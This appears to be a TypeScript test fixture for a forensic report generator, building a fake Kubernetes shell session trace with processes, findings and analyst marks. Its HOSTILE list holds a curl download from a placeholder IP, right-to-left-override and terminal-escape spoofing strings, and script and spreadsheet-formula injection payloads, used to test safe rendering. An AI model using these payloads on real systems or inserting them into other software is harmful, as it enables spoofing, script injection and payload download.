/** A small trace with everything in it that a report can trip over. */

import { sha256 } from '../../../workers/case/digest';
import type { ActivityJson, RecordPlace } from '../../../workers/contract/activity';
import type { CaseInfo } from '../../../workers/contract/case';
import type { Findings } from '../../../workers/contract/findings';
import type { Graph } from '../../../workers/contract/graph';
import type { BoardEntry, Mark } from '../../../workers/contract/marks';
import type { ProcessJson, Trace } from '../../../workers/contract/trace';
import { buildModel, type ReportModel, type ReportSource } from '../../../workers/report/model';

export const HOSTILE = [
  'curl -sSL -o /tmp/u.tgz https://198.51.100.23/u.tgz',
  "echo 'Привет мир' Ελληνικά 漢字かな 한국어 中文简体",
  'printf \u202egnp.exe\u001b[31m red\u0007',
  'echo שלום עולם 123 مرحبا بالعالم abc',
  'echo \u{10ffff}zero\u200bwidth\nsecond line',
  'a'.repeat(300),
  '<script>alert(1)</script><img src=x onerror=alert(1)> =cmd|/c calc',
] as const;

export const KEY = Buffer.alloc(32, 7);
const made = { author: 'examiner-1', at: '2026-03-18T07:00:00.000Z' };
const start = Date.parse('2026-03-17T14:03:11Z');
const at = (ms: number) => new Date(start + ms).toISOString().replace('Z', '482913Z');
const record = (n: number): RecordPlace => ({ evidence: 'E2', member: 'node-2/tetragon.log', record: String(n) });

function activity(i: number): ActivityJson {
  const kind = i % 5 === 3 ? 'net' : i % 7 === 5 ? 'file' : 'cmd';
  return {
    id: `E2/node-2/tetragon.log:${90000 + i}`,
    kind,
    time: at(i * 1700),
    precision: 'ns',
    comm: 'curl',
    pid: 41207 + (i % 5),
    process: `p${i % 5}`,
    records: [record(90000 + i)],
    ...(kind === 'cmd' ? { cmdline: HOSTILE[i % HOSTILE.length] } : {}),
    ...(kind === 'net' ? { direction: 'out', l4proto: 'tcp', server: '198.51.100.23', serverport: 443 } : {}),
    ...(kind === 'file' ? { path: '/tmp/u.tgz', mode: 'write' } : {}),
  };
}

const originator: ActivityJson = {
  id: 'E1/cp-1/audit.log:18402',
  kind: 'exec',
  label: 'kube exec',
  time: at(0),
  end: at(60_000),
  precision: 'us',
  command: ['bash'],
  container: 'main',
  namespace: 'billing',
  pod: 'billing-api-7d9c5b7f6-x2x4q',
  deployment: 'billing-api',
  cluster: 'prod-eu',
  code: 101,
  result: 'ok',
  records: [
    { evidence: 'E1', member: 'cp-1/audit.log', record: '18402' },
    { evidence: 'E1', member: 'cp-1/audit.log', record: '18455' },
  ],
};

function process(depth: number): ProcessJson {
  return {
    process: `p${depth}`,
    parent: depth === 0 ? null : `p${depth - 1}`,
    pid: 41207 + depth,
    ppid: 1,
    comm: 'bash',
    cmdline: HOSTILE[depth] ?? 'bash',
    start: at(depth * 1000),
    end: null,
    depth,
    records: [record(90000 + depth)],
  };
}

/** A trace with `rows` activities. */
export function traceOf(rows: number): Trace {
  const processes = [0, 1, 2, 3, 4].map(process);
  return {
    session: originator.id,
    label: 'S-14',
    originator,
    confidence: 0.98,
    certain: true,
    why: [{ what: 'Exit meets ResponseComplete', detail: 'bash ends 36 ms before it', holds: true, records: [] }],
    rivals: [],
    considered: [{ session: 'S-12', confidence: 0.02, why: 'its shell ended six minutes before' }],
    chain: [
      { link: 'address', value: '203.0.113.7', basis: 'seen by the API server', records: [originator.id] },
      { link: 'user', value: 'johndoe', basis: 'client certificate', records: [originator.id] },
    ],
    identity: {
      user: 'johndoe',
      groups: ['dev-billing', 'system:authenticated'],
      impersonated: null,
      clouduser: null,
      sourceaddresses: ['192.0.2.1', '203.0.113.7'],
      useragent: 'kubectl/v1.31.4 (linux/amd64)',
      basis: 'client certificate',
    },
    root: processes[0] ?? null,
    processes,
    activities: Array.from({ length: rows }, (_, i) => activity(i)),
    more: 0,
    limits: ['What was typed is not recorded: shell built-ins leave no process.'],
    coverage: [
      {
        source: 'Falco, node-2',
        format: 'falco',
        place: 'node-2',
        state: 'hits-only',
        detail: 'The absence of commands proves nothing.',
        first: null,
        last: null,
        rejected: 0,
        selects: null,
        gaps: [{ from: at(0), to: at(2400), why: '311 events reported lost' }],
      },
    ],
  };
}

/** A reason with a ticket, a hostile note that was changed, a bookmark, a stretch of time, and one outside the session. */
export function marksOf(trace: Trace): readonly BoardEntry[] {
  const entry = (mark: Omit<Mark, 'mark' | 'author' | 'at'>, activity: ActivityJson | null, n: number): BoardEntry => ({
    mark: { mark: `mark-${n}`, ...made, ...mark },
    time: mark.on === 'range' ? at(0) : ((activity?.time as string | undefined) ?? null),
    end: mark.on === 'range' ? at(5_000) : null,
    activity,
    label: mark.on === 'session' ? trace.label : null,
  });
  const second = trace.activities[1] ?? trace.originator;
  const elsewhere: ActivityJson = {
    ...second,
    id: 'E1/cp-9/audit.log:5',
    records: [{ evidence: 'E1', member: 'cp-9/audit.log', record: '5' }],
  };
  return [
    entry({ on: 'session', target: trace.session, kind: 'reason', text: 'CHG-4711' }, trace.originator, 1),
    entry(
      {
        on: 'activity',
        target: second.id,
        kind: 'note',
        text: 'see \u202egnp.exe',
        edited: { author: 'examiner-2', at: made.at },
      },
      second,
      2,
    ),
    entry({ on: 'activity', target: second.id, kind: 'bookmark', text: '' }, second, 3),
    entry({ on: 'range', target: `${at(0)}/${at(5_000)}`, kind: 'tag', text: 'first seconds' }, null, 4),
    entry({ on: 'activity', target: elsewhere.id, kind: 'tag', text: 'elsewhere' }, elsewhere, 5),
    entry({ on: 'activity', target: 'E9/gone.log:1', kind: 'note', text: 'of an evidence that is gone' }, null, 6),
  ];
}

const RULE = {
  rule: 'history-removed',
  title: 'Record of typed commands was removed',
  severity: 'high',
  confidence: 'high',
  tags: ['T1070.003'],
  about: 'Who removes what they typed wants it not to be known.',
  innocent: 'An image is cleaned as it is built.',
} as const;

/** One finding, on the first commands of the trace. */
function findingsOf(rows: number, most: number): Findings {
  const cited = traceOf(rows).activities.slice(0, 3);
  const scope = { cluster: 'prod', namespace: 'billing', pod: 'web-\u202e1', node: null, host: null };
  return {
    findings: [
      {
        ...RULE,
        id: 'history-removed#0123456789ab',
        scope: scope as unknown as Findings['findings'][number]['scope'],
        user: 'johndoe',
        session: originator.id,
        count: cited.length,
        kinds: { cmd: cited.length },
        first: at(0),
        last: at(3_400),
        cited: cited.map(({ id }) => id).slice(0, most),
        filter: 'finding = "history-removed#0123456789ab"',
      },
    ],
    unlisted: null,
    rules: [
      { ...RULE, state: 'whole', why: null, count: cited.length },
      { ...RULE, rule: 'new-user', state: 'none', why: 'The case spans less than three days.', count: 0 },
    ],
    pack: { version: '0123456789abcdef', rules: 2 },
  };
}

const info: CaseInfo = {
  case: 'IR-2026-031 billing',
  schema: 1,
  version: '0.1.0',
  readOnly: false,
  evidence: [
    {
      id: 'E1',
      kind: 'archive',
      name: 'audit-\u202eprod.tar.zst',
      sha256: '9f31c0e752ab14d86e03b1f49c2280aad57e613bc4f0912e8a35d06777b2f90c',
      bytes: 41_804_118,
      already: false,
      importedAt: '2026-03-17T19:40:55Z',
      intake: { receivedFrom: 'SRE on duty', caseNumber: 'IR-2026-031', authority: 'Mandate 7/26', question: 'Who was it?' },
      checks: [],
      settings: { zones: [], clusters: [], offsets: [] },
      members: [
        {
          ...{ path: 'cp-1/audit.log', format: 'k8s-audit', records: 12, yielded: 9, activities: 9, merged: 2, duplicates: 0 },
          ...{ ignored: 0, ignoredWhy: {}, rejected: 1, bytes: 41_804_118, first: at(0), last: at(90_000), warning: null },
        },
      ],
    },
  ],
  formats: {},
  kinds: {},
  activities: 0,
  undated: 0,
  first: null,
  last: null,
  coverage: [],
  digest: 'd'.repeat(64),
  clocks: [],
  evidenceDigest: 'e'.repeat(64),
  analysisDigest: 'a'.repeat(64),
  journal: { entries: 9, head: 'f'.repeat(64) },
};

function graph(startNs: bigint): Graph {
  const wave = (of: (i: number) => number) => Float64Array.from({ length: 288 }, (_, i) => Math.max(0, Math.round(of(i))));
  const flat = wave(() => 0);
  const series = {
    cmd: wave((i) => 20 + 8 * Math.sin(i)),
    net: wave((i) => (i > 140 ? 900 : 30)),
    exec: wave((i) => +(i % 31 === 0)),
    file: wave(() => 3),
    api: flat,
    policy: flat,
    policyHits: flat,
  };
  const counts = { cmd: 0, net: 0, exec: 0, file: 0, api: 0, policy: 0, policyHits: 0 };
  return { startNs, widthNs: 300_000_000_000n, size: 288, series, counts, total: 0, undated: 0 };
}

export const source = (rows: number): ReportSource => ({
  info: async () => info,
  trace: async () => traceOf(rows),
  places: async (places) =>
    places.map((p, i) => {
      const bytes = Buffer.from(JSON.stringify(p));
      return { ...p, offset: 41_209_377 + i * 1000, length: bytes.length, sha256: sha256(bytes), bytes };
    }),
  graph: async ({ from }) => graph(from),
  answers: async () => [],
  finds: async (_, __, most) => findingsOf(rows, most),
  detail: async () => ({
    decoders: ['k8s-audit 3', 'tetragon 2'],
    correlator: 4,
    levels: [{ value: 'Metadata', count: 12 }],
    rejects: [{ at: 'E1/cp-1/audit.log:7', why: 'not JSON at byte 3' }],
  }),
  list: async () => {
    const { activities } = traceOf(rows);
    const listed = activities.length;
    return { rows: activities, counts: { case: listed + 100, window: listed + 50, kinds: listed + 20, listed, undated: 3 } };
  },
  journal: async () => [
    {
      seq: 1,
      at: made.at,
      by: 'examiner-1 (root on ws-07)',
      what: 'import',
      detail: { name: 'audit.log' },
      hash: '1'.repeat(64),
    },
  ],
  key: async () => KEY,
  board: async () => marksOf(traceOf(rows)),
});

export const model = (rows: number, created = '2026-03-18T08:00:00Z'): Promise<ReportModel> =>
  buildModel(source(rows), { ids: [originator.id], format: 'pdf', created, question: 'Who entered billing-api on 17 March?' });
